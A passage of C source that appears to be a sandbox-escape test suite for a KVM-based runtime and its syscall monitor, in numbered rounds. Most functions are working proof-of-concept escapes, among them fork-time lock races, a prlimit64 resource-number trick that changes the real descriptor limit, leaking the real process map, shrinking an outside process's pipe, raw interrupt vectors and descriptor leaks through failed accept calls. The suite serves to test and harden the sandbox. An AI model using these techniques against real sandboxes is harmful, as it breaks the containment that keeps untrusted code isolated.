	ioctl(p[0], FIONBIO, &one);
}

/* A sibling receives messages of many descriptors at once (each a copy of one pipe
 * end of the program's own, sent through a socketpair): the monitor holds its RECEIVED
 * lock from the recvmsg until it has noted every descriptor (an fstat and an isatty
 * each). fork does not take that lock: a child forked meanwhile inherits it locked,
 * and its first call that asks "shared with the outside?" waits for ever. */
static volatile long recv_msgs;
static int recv_control;

static void *receive_many(void *arg) {
	int *sp = arg;
	int p[2];
	if (pipe(p))
		return NULL;
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	int k = 250;
	if ((long)rl.rlim_cur < 4 * k)
		k = rl.rlim_cur / 4;
	if (recv_control)
		k = 0;
	int fds[256];
	for (int i = 0; i < k; i++)
		fds[i] = p[0];
	size_t space = CMSG_SPACE(sizeof(int) * 256);
	char *ctl = calloc(1, space), *in = calloc(1, space);
	while (!busy_stop) {
		char byte = 'x';
		struct iovec io = { &byte, 1 };
		struct msghdr m;
		memset(&m, 0, sizeof m);
		m.msg_iov = &io;
		m.msg_iovlen = 1;
		m.msg_control = ctl;
		m.msg_controllen = CMSG_SPACE(sizeof(int) * k);
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(sizeof(int) * k);
		memcpy(CMSG_DATA(c), fds, sizeof(int) * k);
		if (!k)
			m.msg_control = NULL, m.msg_controllen = 0;
		if (sendmsg(sp[0], &m, 0) != 1)
			break;
		memset(&m, 0, sizeof m);
		m.msg_iov = &io;
		m.msg_iovlen = 1;
		m.msg_control = recv_control ? NULL : in;
		m.msg_controllen = recv_control ? 0 : space;
		if (recvmsg(sp[1], &m, 0) != 1)
			break;
		recv_msgs++;
		for (c = CMSG_FIRSTHDR(&m); c; c = CMSG_NXTHDR(&m, c))
			if (c->cmsg_type == SCM_RIGHTS) {
				int n = (c->cmsg_len - CMSG_LEN(0)) / sizeof(int);
				int lo = 1 << 30, hi = -1;
				for (int i = 0; i < n; i++) {
					int f;
					memcpy(&f, CMSG_DATA(c) + i * sizeof(int), sizeof f);
					lo = f < lo ? f : lo, hi = f > hi ? f : hi;
				}
				if (hi >= 0)
					syscall(SYS_close_range, lo, hi, 0);
			}
	}
	return NULL;
}

static void fork_while_receiving(int control) {
	recv_control = control;
	int sp[2];
	if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sp))
		exit(2);
	pthread_t th;
	if (pthread_create(&th, NULL, receive_many, sp))
		exit(2);
	usleep(100000);
	int birth, call, done;
	fork_and_watch(400, 25, child_pipe_size, &birth, &call, &done);
	busy_stop = 1;
	shutdown(sp[0], SHUT_RDWR);
	shutdown(sp[1], SHUT_RDWR);
	pthread_join(th, NULL);
	printf("%ld messages of descriptors received; %d children ran to their end, %d hung in their call, %d hung at birth\n", recv_msgs, done, call, birth);
	if (call || birth)
		escaped("%d forked children hung for ever in the monitor (%d in a call asking whether a pipe is shared: the RECEIVED lock inherited held; %d at birth)", call + birth, call, birth);
	contained();
}

/* A sibling makes the runtime raise and lower the real RLIMIT_NOFILE over and over
 * (setrlimit, and every private duplicate the monitor makes goes through
 * reserved::with_fd_room): the runtime's ROOM_LOCK, a spin lock, is held meanwhile.
 * fork does not take it: a child forked meanwhile inherits it held and spins for ever
 * in its first with_fd_room (procmap::after_fork opens its map descriptor there). */
static volatile long room_calls;

static void *room_loop(void *arg) {
	(void)arg;
	int p[2];
	if (pipe(p))
		return NULL;
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	while (!busy_stop) {
		int n;
		setrlimit(RLIMIT_NOFILE, &rl);
		ioctl(p[0], FIONREAD, &n);
		room_calls++;
	}
	return NULL;
}

static void child_nothing(void) {
}

static void fork_while_room(void) {
	pthread_t th;
	if (pthread_create(&th, NULL, room_loop, NULL))
		exit(2);
	usleep(100000);
	int birth, call, done;
	fork_and_watch(400, 25, child_nothing, &birth, &call, &done);
	busy_stop = 1;
	pthread_join(th, NULL);
	printf("%ld rounds of setrlimit and ioctl; %d children ran to their end, %d hung at birth, %d after starting\n", room_calls, done, birth, call);
	if (call || birth)
		escaped("%d forked children hung for ever (%d at birth: the runtime's ROOM_LOCK inherited held)", call + birth, birth);
	contained();
}

/* Round 9's race again through the other ways a message is received: recvmmsg (one
 * message per call, so each arrives with nothing else noted) and recvmsg(MSG_PEEK)
 * (the kernel installs a copy of each descriptor and leaves the message queued),
 * alternately. stdin is the unix stream socket the test's sender writes pipes into;
 * a sibling spins on F_SETPIPE_SZ at the number the next descriptor gets. */
static void received_fd_race_mmsg(void) {
	int probe = dup(0);
	if (probe < 0)
		exit(2);
	close(probe);
	race_fd = probe;
	pthread_t th;
	if (pthread_create(&th, NULL, shrink_loop, NULL))
		exit(2);
	int n = 0, shrunk = 0;
	for (int round = 0;; round++) {
		char byte;
		struct iovec io = { &byte, 1 };
		union {
			struct cmsghdr h;
			char b[CMSG_SPACE(sizeof(int))];
		} u;
		memset(&u, 0, sizeof u);
		struct mmsghdr mm;
		memset(&mm, 0, sizeof mm);
		mm.msg_hdr.msg_iov = &io;
		mm.msg_hdr.msg_iovlen = 1;
		mm.msg_hdr.msg_control = u.b;
		mm.msg_hdr.msg_controllen = sizeof u.b;
		ssize_t r;
		if (round % 2) {
			r = recvmsg(0, &mm.msg_hdr, MSG_PEEK);
			if (r > 0) {
				struct cmsghdr *c = CMSG_FIRSTHDR(&mm.msg_hdr);
				if (c && c->cmsg_type == SCM_RIGHTS) {
					int fd;
					memcpy(&fd, CMSG_DATA(c), sizeof fd);
					if (fcntl(fd, F_GETPIPE_SZ) == 4096)
						shrunk++;
					close(fd);
				}
				memset(&u, 0, sizeof u);
				mm.msg_hdr.msg_controllen = sizeof u.b;
				r = recvmsg(0, &mm.msg_hdr, 0);
			}
		} else {
			r = recvmmsg(0, &mm, 1, 0, NULL);
			r = r == 1 ? (ssize_t)mm.msg_len : -1;
		}
		if (r <= 0)
			break;
		struct cmsghdr *c = CMSG_FIRSTHDR(&mm.msg_hdr);
		if (!c || c->cmsg_type != SCM_RIGHTS)
			continue;
		int fd;
		memcpy(&fd, CMSG_DATA(c), sizeof fd);
		n++;
		race_fd = fd;
		if (fcntl(fd, F_GETPIPE_SZ) == 4096)
			shrunk++;
		close(fd);
	}
	race_stop = 1;
	pthread_join(th, NULL);
	printf("received %d pipes (recvmmsg and MSG_PEEK), sibling tried %ld times, %ld succeeded, %d shrunk\n", n, race_tries, race_ok, shrunk);
	if (shrunk || race_ok)
		escaped("a sibling shrank %d of the pipes a process outside made, keeps and sent (%ld F_SETPIPE_SZ calls succeeded)", shrunk, race_ok);
	contained();
}

/* ---- round 11 ------------------------------------------------------------------------ */

/* RLIMIT_NOFILE with the upper 32 bits of the resource set. Linux reads `resource` as
 * an unsigned int (7); the monitor forwards every resource it does not keep itself
 * to prlimit64 unchanged, and libdune's guard recognises RLIMIT_NOFILE (to keep the
 * program's own view, capped below the runtime's numbers) by comparing all 64 bits.
 * So the call reaches Linux and changes the process's real limit. */
#define NOFILE_HI ((1ull << 32) | RLIMIT_NOFILE)

static long real_nofile(struct rlimit *newl, struct rlimit *old) {
	return syscall(SYS_prlimit64, 0, NOFILE_HI, newl, old);
}

static void nofile_high_bits(void) {
	struct rlimit view, real0, real1, set;
	getrlimit(RLIMIT_NOFILE, &view);
	long r = real_nofile(NULL, &real0);
	printf("program's view %lu/%lu; prlimit64(0x%llx) read: %ld %lu/%lu\n", (unsigned long)view.rlim_cur, (unsigned long)view.rlim_max, NOFILE_HI, r,
	       (unsigned long)real0.rlim_cur, (unsigned long)real0.rlim_max);
	if (r == 0 && (real0.rlim_cur != view.rlim_cur || real0.rlim_max != view.rlim_max))
		printf("the real limit shows through: %lu/%lu\n", (unsigned long)real0.rlim_cur, (unsigned long)real0.rlim_max);
	/* Raise the real soft limit to the real hard one (above the monitor's numbers). */
	set.rlim_cur = set.rlim_max = r == 0 ? real0.rlim_max : view.rlim_max;
	long w = real_nofile(&set, NULL);
	printf("prlimit64(0x%llx, %lu/%lu): %ld (%s)\n", NOFILE_HI, (unsigned long)set.rlim_cur, (unsigned long)set.rlim_max, w, w ? strerror(errno) : "ok");
	memset(&real1, 0, sizeof real1);
	long r1 = real_nofile(NULL, &real1);
	struct rlimit view1;
	getrlimit(RLIMIT_NOFILE, &view1);
	printf("after: view %lu/%lu, real %ld %lu/%lu\n", (unsigned long)view1.rlim_cur, (unsigned long)view1.rlim_max, r1, (unsigned long)real1.rlim_cur, (unsigned long)real1.rlim_max);
	if (w == 0 && r1 == 0 && real1.rlim_cur > view.rlim_max)
		escaped("the process's real RLIMIT_NOFILE soft limit is now %lu, above the program's hard limit %lu where the runtime's and the monitor's descriptors start (the kernel no longer refuses their numbers)",
			(unsigned long)real1.rlim_cur, (unsigned long)view.rlim_max);
	contained();
}

/* The consequence: with the real hard limit lowered below the reserved numbers, the
 * runtime cannot duplicate its /proc/self/maps descriptor for the monitor
 * (SERVICE_DUP_MAPS fails), and runtime::own_maps falls back to reading a fresh
 * descriptor of the real map opened at the program's lowest free number (round 7's
 * finding): a sibling reads it while the monitor serves the program's cut copy. */
static void *maps_low_reader(void *x) {
	(void)x;
	static char b[1 << 16];
	while (!maps_stop) {
		ssize_t n = pread(maps_low, b, sizeof b - 1, 0);
		if (n <= 0)
			continue;
		b[n] = 0;
		if (strstr(b, "kvm") || strstr(b, "/dune\n") || strstr(b, "[heap]")) {
			memcpy(maps_got, b, n + 1);
			maps_got_len = n;
			maps_stop = 1;
		}
	}
	return NULL;
}

static void maps_nofile_high_bits(void) {
	static char served[1 << 16];
	int f = open("/proc/self/maps", O_RDONLY);
	if (f < 0) {
		printf("open /proc/self/maps: %s\n", strerror(errno));
		contained();
	}
	ssize_t n = read(f, served, sizeof served - 1);
	served[n > 0 ? n : 0] = 0;
	close(f);
	printf("served maps: %d lines%s\n", count_lines(served), strstr(served, "kvm") ? " (with kvm!)" : "");
	/* The sibling first: a new thread needs a vCPU descriptor at the runtime's numbers. */
	maps_low = dup(0);
	close(maps_low);
	pthread_t t;
	pthread_create(&t, NULL, maps_low_reader, NULL);
	struct rlimit small = { 64, 64 };
	long w = real_nofile(&small, NULL);
	struct rlimit real;
	long r = real_nofile(NULL, &real);
	printf("prlimit64(0x%llx, 64/64): %ld (%s); real now %ld %lu/%lu; descriptor will be born at %d\n", NOFILE_HI, w, w ? strerror(errno) : "ok", r,
	       (unsigned long)real.rlim_cur, (unsigned long)real.rlim_max, maps_low);
	double t0 = now();
	long tries = 0, opened = 0;
	while (!maps_stop && now() - t0 < 10) {
		int g = open("/proc/self/maps", O_RDONLY);
		if (g >= 0) {
			opened++;
			close(g);
		}
		tries++;
	}
	maps_stop = 1;
	pthread_join(t, NULL);
	printf("%ld opens (%ld served)\n", tries, opened);
	if (maps_got_len > 0) {
		char *l = strstr(maps_got, "kvm");
		if (!l)
			l = strstr(maps_got, "/dune\n");
		if (!l)
			l = strstr(maps_got, "[heap]");
		char *start = l, *end = strchr(l, '\n');
		while (start > maps_got && start[-1] != '\n')
			start--;
		if (end)
			*end = 0;
		escaped("read the real /proc/self/maps at descriptor %d (%d lines, the program's own %d): %s", maps_low, count_lines(maps_got), count_lines(served), start);
	}
	contained();
}

/* The same lowered limit, then fork: the child's runtime cannot move its new VM's
 * descriptors to its numbers, and the forked child's monitor dies before the
 * program's code runs on. */
static void fork_nofile_high_bits(void) {
	struct rlimit small = { 64, 64 };
	long w = real_nofile(&small, NULL);
	printf("prlimit64(0x%llx, 64/64): %ld (%s)\n", NOFILE_HI, w, w ? strerror(errno) : "ok");
	int p[2];
	if (pipe(p)) {
		printf("pipe: %s\n", strerror(errno));
		exit(2);
	}
	pid_t c = fork();
	if (c == 0) {
		close(p[0]);
		if (write(p[1], "alive", 5) != 5)
			_exit(3);
		_exit(42);
	}
	close(p[1]);
	char b[8] = { 0 };
	ssize_t n = c > 0 ? read(p[0], b, 5) : -1;
	int st = 0;
	pid_t wr = c > 0 ? waitpid(c, &st, 0) : -1;
	printf("fork: %d; child said %zd \"%s\"; waitpid %d status %#x (%s %d)\n", c, n, b, wr, st, WIFEXITED(st) ? "exit" : "signal",
	       WIFEXITED(st) ? WEXITSTATUS(st) : WTERMSIG(st));
	if (w == 0 && c > 0 && (n != 5 || !WIFEXITED(st) || WEXITSTATUS(st) != 42))
		escaped("the forked child's monitor died (status %#x) after the program lowered the real RLIMIT_NOFILE through resource 0x%llx", st, NOFILE_HI);
	contained();
}

/* ---- round 12 ------------------------------------------------------------------------ */

static volatile int rwf_stop;
static int rwf_pipe[2];
static volatile long rwf_calls;

static void *rwf_room(void *arg) {
	(void)arg;
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	while (!rwf_stop) {
		int n;
		/* FIONREAD: a private duplicate, made with the soft limit raised. */
		ioctl(rwf_pipe[0], FIONREAD, &n);
		rwf_calls++;
	}
	return NULL;
}

static void room_window_fd(void) {
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	int sr = setrlimit(RLIMIT_NOFILE, &rl);
	getrlimit(RLIMIT_NOFILE, &rl);
	long limit = (long)rl.rlim_cur;
	printf("setrlimit(NOFILE, max): %d; the program's limit is %ld/%lu\n", sr, limit, (unsigned long)rl.rlim_max);
	if (limit > 200000) {
		printf("limit too large to fill\n");
		contained();
	}
	if (pipe(rwf_pipe))
		exit(2);
	pthread_t th;
	if (pthread_create(&th, NULL, rwf_room, NULL))
		exit(2);
	usleep(50000);
	long filled = 0, high = 0, tries = 0;
	int first_high = -1, max_fd = -1;
	double t0 = now();
	for (;;) {
		int f = dup(0);
		if (f < 0)
			break;
		filled++;
		if (f > max_fd)
			max_fd = f;
		if (f >= limit) {
			high++;
			if (first_high < 0)
				first_high = f;
		}
		if (now() - t0 > 90)
			break;
	}
	printf("filled %ld descriptors (highest %d) in %.1f s, errno at the end %s\n", filled, max_fd, now() - t0, strerror(errno));
	double t1 = now();
	while (now() - t1 < 10 && high < 256) {
		int f = dup(0);
		tries++;
		if (f >= 0) {
			if (f > max_fd)
				max_fd = f;
			if (f >= limit) {
				high++;
				if (first_high < 0)
					first_high = f;
			}
		}
	}
	rwf_stop = 1;
	pthread_join(th, NULL);
	printf("%ld more dup()s, %ld room windows opened by the sibling; %ld descriptors at or above the limit %ld (first %d, highest %d)\n", tries, rwf_calls, high, limit, first_high,
	       max_fd);
	if (high > 0) {
		errno = 0;
		int g = fcntl(first_high, F_GETFD);
		printf("fcntl(%d, F_GETFD) = %d (%s)\n", first_high, g, strerror(errno));
		escaped("%ld descriptors of the program's sit at the runtime's reserved numbers (first %d, program limit %ld): the kernel's line for those numbers is gone", high,
			first_high, limit);
	}
	contained();
}

/* Each vector in a child of its own: the monitor may end the child for the attempt
 * (that is containment); a child that gets past the `int` exits 42. */
static int iv_run(int v) {
	fflush(stdout);
	pid_t c = fork();
	if (c == 0) {
		switch (v) {
#define IV(n)                                                   \
	case n:                                                 \
		__asm__ volatile("int $" #n ::: "memory");      \
		break;
			IV(0xf1) IV(0xf2) IV(0xf0) IV(0xf3) IV(0xef) IV(0xff) IV(0xfe) IV(0x20) IV(0x80) IV(0x30) IV(0x02) IV(0x12) IV(0x0e) IV(0x0d) IV(0x08)
				IV(0x01) IV(0x06) IV(0x00) IV(0x13) IV(0x11)
#undef IV
		}
		_exit(42);
	}
	int st = 0;
	waitpid(c, &st, 0);
	return st;
}

static void int_vectors(void) {
	int vs[] = { 0xf1, 0xf2, 0xf0, 0xf3, 0xef, 0xff, 0xfe, 0x20, 0x80, 0x30, 0x02, 0x12, 0x0e, 0x0d, 0x08, 0x01, 0x06, 0x00, 0x13, 0x11 };
	int ran = 0, first = -1;
	for (unsigned i = 0; i < sizeof vs / sizeof *vs; i++) {
		int st = iv_run(vs[i]);
		printf("int %#x: %s %d\n", vs[i], WIFEXITED(st) ? "exited" : "signal", WIFEXITED(st) ? WEXITSTATUS(st) : WTERMSIG(st));
		if (WIFEXITED(st) && WEXITSTATUS(st) == 42) {
			ran++;
			if (first < 0)
				first = vs[i];
		}
	}
	int f = open("/proc/self/status", O_RDONLY);
	printf("after: open = %d\n", f);
	if (ran)
		escaped("%d interrupt vectors ran a ring-0 handler on ring 3's `int` and returned to it (first %#x)", ran, first);
	contained();
}

static volatile int mts_sigio;

static void mts_count(int s) {
	(void)s;
	mts_sigio++;
}

static void monitor_thread_signals(void) {
	pid_t me = getpid(), self = (pid_t)syscall(SYS_gettid);
	int sigs[] = { SIGSEGV, SIGBUS, SIGILL, SIGFPE, SIGTERM, SIGUSR1, SIGUSR2, SIGPIPE, SIGXFSZ, SIGXCPU, SIGALRM, SIGHUP, SIGINT, SIGQUIT, SIGABRT, SIGSYS, SIGTRAP, 34, 40, 63 };
	for (unsigned i = 0; i < sizeof sigs / sizeof *sigs; i++)
		signal(sigs[i], SIG_IGN);
	pid_t found[256];
	int nf = 0;
	/* The task directory first, then a scan around our own tid. */
	DIR *d = opendir("/proc/self/task");
	if (d) {
		struct dirent *e;
		while ((e = readdir(d)) && nf < 256) {
			pid_t t = atoi(e->d_name);
			if (t > 0 && t != self)
				found[nf++] = t;
		}
		closedir(d);
	}
	printf("/proc/self/task: %s, %d other threads\n", d ? "listed" : strerror(errno), nf);
	if (!nf)
		for (pid_t t = me - 64; t < me + 4096 && nf < 256; t++)
			if (t > 0 && t != self && syscall(SYS_tgkill, me, t, 0) == 0)
				found[nf++] = t;
	printf("threads of this process the program did not make: %d\n", nf);
	for (int i = 0; i < nf; i++) {
		int sent = 0;
		for (unsigned j = 0; j < sizeof sigs / sizeof *sigs; j++) {
			if (syscall(SYS_tgkill, me, found[i], sigs[j]) == 0)
				sent++;
			siginfo_t si;
			memset(&si, 0, sizeof si);
			si.si_signo = sigs[j];
			si.si_code = SI_QUEUE;
			if (syscall(SYS_rt_tgsigqueueinfo, me, found[i], sigs[j], &si) == 0)
				sent++;
		}
		printf("tid %d: %d signals sent\n", found[i], sent);
		/* SIGIO (as SIGSEGV) to that thread alone through an open file of our own. */
		int p[2];
		if (pipe(p) == 0) {
			struct { int type; pid_t pid; } own = { 0 /* F_OWNER_TID */, found[i] };
			int a = fcntl(p[0], 15 /* F_SETOWN_EX */, &own);
			int b = fcntl(p[0], 10 /* F_SETSIG */, SIGUSR1);
			int c = fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK);
			if (write(p[1], "x", 1) != 1)
				printf("write failed\n");
			printf("tid %d: F_SETOWN_EX %d, F_SETSIG %d, O_ASYNC %d\n", found[i], a, b, c);
			close(p[0]);
			close(p[1]);
		}
	}
	signal(SIGUSR1, mts_count);
	usleep(300000);
	/* The monitor must still answer: a path, a fork, a thread. */
	int f = open("/proc/self/status", O_RDONLY);
	pid_t c = fork();
	if (c == 0)
		_exit(7);
	int st = 0;
	waitpid(c, &st, 0);
	printf("after: open %d, child status %#x\n", f, st);
	if (f < 0 || !WIFEXITED(st) || WEXITSTATUS(st) != 7)
		escaped("the monitor stopped answering after signals to its own threads");
	contained();
}

static void futex_pi_outside(void) {
	pid_t targets[3] = { 1, getppid(), 0 };
	/* A pid that surely names nothing: the highest possible. */
	targets[2] = 4194303;
	long res[3];
	int errs[3];
	for (int i = 0; i < 3; i++) {
		static uint32_t word;
		word = (uint32_t)targets[i];
		struct timespec ts;
		clock_gettime(CLOCK_REALTIME, &ts);
		ts.tv_nsec += 20 * 1000 * 1000;
		if (ts.tv_nsec >= 1000000000) {
			ts.tv_sec++;
			ts.tv_nsec -= 1000000000;
		}
		errno = 0;
		res[i] = syscall(SYS_futex, &word, FUTEX_LOCK_PI, 0, &ts, NULL, 0);
		errs[i] = errno;
		printf("FUTEX_LOCK_PI owner %d: %ld (%s), word now %#x\n", targets[i], res[i], strerror(errs[i]), word);
	}
	/* And kill(pid, 0) for comparison: the monitor answers EPERM for both. */
	errno = 0;
	int k1 = kill(1, 0);
	int e1 = errno;
	errno = 0;
	int k2 = kill(4194303, 0);
	int e2 = errno;
	printf("kill(1, 0) = %d (%s); kill(4194303, 0) = %d (%s)\n", k1, strerror(e1), k2, strerror(e2));
	if (errs[0] == ETIMEDOUT && errs[2] == ESRCH && !(e1 == ESRCH || e2 == ESRCH))
		escaped("FUTEX_LOCK_PI attached PI state to pid 1 outside the sandbox (timed out waiting for it) and told a free pid (ESRCH) from it");
	contained();
}

static void close_range_cloexec_fork(const char *self_exe) {
	int r = (int)syscall(SYS_close_range, 0, ~0U, 4 /* CLOSE_RANGE_CLOEXEC */);
	printf("close_range(0, ~0, CLOEXEC) = %d (%s)\n", r, r ? strerror(errno) : "ok");
	pid_t c = fork();
	if (c == 0) {
		int f = open("/proc/self/maps", O_RDONLY);
		char buf[256];
		ssize_t n = f >= 0 ? read(f, buf, sizeof buf) : -1;
		printf("child: maps %d read %zd\n", f, n);
		fflush(stdout);
		char *args[] = { (char *)self_exe, "close-range-cloexec-fork-child", NULL };
		execv(self_exe, args);
		printf("child: execv: %s\n", strerror(errno));
		_exit(3);
	}
	int st = 0;
	double t0 = now();
	while (waitpid(c, &st, WNOHANG) == 0) {
		if (now() - t0 > 30) {
			kill(c, SIGKILL);
			escaped("a forked child that exec'd after close_range(CLOEXEC) hung");
		}
		usleep(10000);
	}
	printf("child status %#x\n", st);
	if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
		escaped("a forked child that exec'd after close_range(CLOEXEC) died (status %#x): the monitor lost its descriptors", st);
	/* This process too: a thread, a path, the map. */
	int f = open("/proc/self/maps", O_RDONLY);
	char buf[256];
	ssize_t n = f >= 0 ? read(f, buf, sizeof buf) : -1;
	printf("parent: maps %d read %zd\n", f, n);
	if (n <= 0)
		escaped("the monitor lost its map descriptor after close_range(CLOEXEC)");
	contained();
}

static void close_range_cloexec_fork_child(void) {
	int f = open("/proc/self/status", O_RDONLY);
	pid_t c = fork();
	if (c == 0)
		_exit(0);
	int st = 0;
	waitpid(c, &st, 0);
	printf("exec'd child: open %d, grandchild %#x\n", f, st);
	fflush(stdout);
	_exit(f >= 0 && WIFEXITED(st) ? 0 : 4);
}

static void *rwm_nothing(void *x) {
	return x;
}

/* The consequence of room-window-fd: with the runtime's reserved numbers full of the
 * program's descriptors, a forked child's runtime cannot move its new /proc/self/maps
 * descriptor up (open_own fails; the parent's pooled vCPUs, closed after that, make
 * room for the child's VM), so every later read of the map on the host side (page
 * faults, mremap, brk) opens a fresh one at the program's lowest free number, where a
 * sibling reads it. */
static void room_window_maps_child(void) {
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	getrlimit(RLIMIT_NOFILE, &rl);
	long limit = (long)rl.rlim_cur;
	if (limit > 200000)
		contained();
	/* Two vCPUs into the runtime's pool: threads that end at once. */
	for (int i = 0; i < 2; i++) {
		pthread_t t;
		if (pthread_create(&t, NULL, rwm_nothing, NULL) == 0)
			pthread_join(t, NULL);
	}
	if (pipe(rwf_pipe))
		exit(2);
	pthread_t th;
	if (pthread_create(&th, NULL, rwf_room, NULL))
		exit(2);
	usleep(50000);
	long filled = 0, high = 0;
	int top = -1;
	double t0 = now();
	/* The runtime's part ends where the application's begins (the end of the room
	 * minus 1024); stop at the first descriptor past it. */
	long app_floor = limit + (limit >= 2064 ? 1024 : limit / 2);
	while (now() - t0 < 25) {
		int f = dup(0);
		if (f < 0)
			continue;
		filled++;
		if (f >= limit)
			high++;
		if (f > top)
			top = f;
		if (f >= app_floor)
			break;
	}
	rwf_stop = 1;
	pthread_join(th, NULL);
	printf("%ld descriptors, %ld of them at or above the limit %ld, highest %d (application floor %ld)\n", filled, high, limit, top, app_floor);
	if (top < app_floor) {
		printf("the runtime's part did not fill\n");
		contained();
	}
	/* One low number free for the child's runtime to open the map at. */
	maps_low = 100;
	close(maps_low);
	fflush(stdout);
	pid_t c = fork();
	if (c < 0) {
		printf("fork: %s\n", strerror(errno));
		contained();
	}
	if (c == 0) {
		maps_stop = 0;
		maps_got_len = 0;
		pthread_t r;
		int e = pthread_create(&r, NULL, maps_low_reader, NULL);
		printf("child: reader thread %d\n", e);
		size_t len = 1 << 20;
		char *m = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		double c0 = now();
		long rounds = 0;
		while (m != MAP_FAILED && !maps_stop && now() - c0 < 15) {
			char *n = mremap(m, len, 2 * len, MREMAP_MAYMOVE);
			if (n != MAP_FAILED)
				m = n;
			for (size_t i = 0; i < 2 * len; i += 4096)
				m[i] = 1;
			n = mremap(m, 2 * len, len, 0);
			if (n != MAP_FAILED)
				m = n;
			void *b = sbrk(0);
			if (brk((char *)b + (1 << 16)) == 0)
				brk(b);
			rounds++;
		}
		maps_stop = 1;
		if (!e)
			pthread_join(r, NULL);
		printf("child: %ld rounds\n", rounds);
		if (maps_got_len > 0) {
			char *l = strstr(maps_got, "kvm");
			if (!l)
				l = strstr(maps_got, "/dune\n");
			if (!l)
				l = strstr(maps_got, "[heap]");
			char *st = l, *en = strchr(l, '\n');
			while (st > maps_got && st[-1] != '\n')
				st--;
			if (en)
				*en = 0;
			escaped("a forked child read the real /proc/self/maps at descriptor %d (%d lines): %s", maps_low, count_lines(maps_got), st);
		}
		_exit(0);
	}
	int st = 0;
	double w0 = now();
	while (waitpid(c, &st, WNOHANG) == 0) {
		if (now() - w0 > 60) {
			kill(c, SIGKILL);
			escaped("the forked child hung");
		}
		usleep(10000);
	}
	printf("child status %#x\n", st);
	if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
		escaped("the child read the real map (above)");
	contained();
}

/* The test hands the sandbox one end of its own pipe at descriptor FD (1500): above
 * the numbers the monitor looks at when it notes the open files the sandbox starts
 * with (0 to 1023), below the program's limit. The pipe's size and status flags are
 * the test's too. */
static void high_inherited_pipe(const char *fds) {
	int fd = atoi(fds);
	int before = fcntl(fd, F_GETPIPE_SZ);
	int a = fcntl(fd, F_SETPIPE_SZ, 4096);
	int ea = errno;
	int b = fcntl(fd, F_SETFL, O_NONBLOCK);
	int eb = errno;
	int after = fcntl(fd, F_GETPIPE_SZ);
	printf("descriptor %d: pipe size %d; F_SETPIPE_SZ 4096 = %d (%s); F_SETFL O_NONBLOCK = %d (%s); size now %d, flags %#x\n", fd, before, a, a < 0 ? strerror(ea) : "ok", b,
	       b < 0 ? strerror(eb) : "ok", after, fcntl(fd, F_GETFL));
	if (before > 0 && after == 4096)
		escaped("shrank the outside's pipe inherited at descriptor %d (%d -> %d bytes)", fd, before, after);
	contained();
}

/* ---- round 13 ------------------------------------------------------------------------ */

/* accept() whose address cannot be written back. The monitor accepts into its own
 * buffer, then copies the address out; a failed copy returns EFAULT, and the
 * descriptor accept made stays open (Linux itself closes it). within_limit only
 * looks at successful results, so one made at the runtime's numbers during a
 * sibling's raised-limit window stays there for good. With the program's numbers full,
 * every accept that succeeds in the kernel is such a descriptor. Afterwards: a fork
 * (its runtime needs the room) and a thread (a vCPU descriptor there). */
static void accept_efault_leak(const char *rw) {
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	getrlimit(RLIMIT_NOFILE, &rl);
	long limit = (long)rl.rlim_cur;
	if (limit > 200000) {
		printf("limit too large to fill\n");
		contained();
	}
	int want = 1100;
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	snprintf(sa.sun_path, sizeof sa.sun_path, "%s/acc.sock", rw);
	unlink(sa.sun_path);
	int l = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (l < 0 || bind(l, (struct sockaddr *)&sa, sizeof sa) || listen(l, 4096)) {
		printf("listen: %s\n", strerror(errno));
		exit(2);
	}
	int queued = 0;
	for (int i = 0; i < want; i++) {
		int c = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
		if (c < 0)
			break;
		if (connect(c, (struct sockaddr *)&sa, sizeof sa) == 0)
			queued++;
		close(c);
	}
	printf("program limit %ld; %d connections queued\n", limit, queued);
	/* First: one accept with the address in a read-only page, nothing full. */
	char *ro = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	socklen_t len = sizeof(struct sockaddr_un);
	int probe_low = dup(0);
	close(probe_low);
	errno = 0;
	int r = accept4(l, (struct sockaddr *)ro, &len, 0);
	int e = errno;
	int again = dup(0);
	printf("accept4(ro address) = %d (%s); next free number before %d, after %d\n", r, strerror(e), probe_low, again);
	close(again);
	/* Linux closes the new connection's descriptor when the address cannot be copied
	 * out: a failed accept leaves the next free number where it was. */
	if (r < 0 && again != probe_low)
		escaped("an accept that failed with %s left descriptor %d open", strerror(e), probe_low);
	queued--;
	if (pipe(rwf_pipe))
		exit(2);
	long filled = 0;
	while (dup(0) >= 0)
		filled++;
	printf("filled %ld numbers (%s)\n", filled, strerror(errno));
	pthread_t th;
	if (pthread_create(&th, NULL, rwf_room, NULL))
		exit(2);
	long leaked = 0, tries = 0, ok = 0;
	double t0 = now();
	while (leaked < queued && now() - t0 < 25) {
		len = sizeof(struct sockaddr_un);
		errno = 0;
		int f = accept4(l, (struct sockaddr *)ro, &len, 0);
		tries++;
		if (f >= 0)
			ok++;
		else if (errno == EFAULT)
			leaked++;
		else if (errno == EAGAIN)
			break;
	}
	rwf_stop = 1;
	pthread_join(th, NULL);
	printf("%ld accepts, %ld windows; %ld returned EFAULT after the kernel made a descriptor above the limit, %ld returned one\n", tries, rwf_calls, leaked, ok);
	/* Consequences: free some low numbers, then a thread and a fork. */
	for (int i = 100; i < 140; i++)
		close(i);
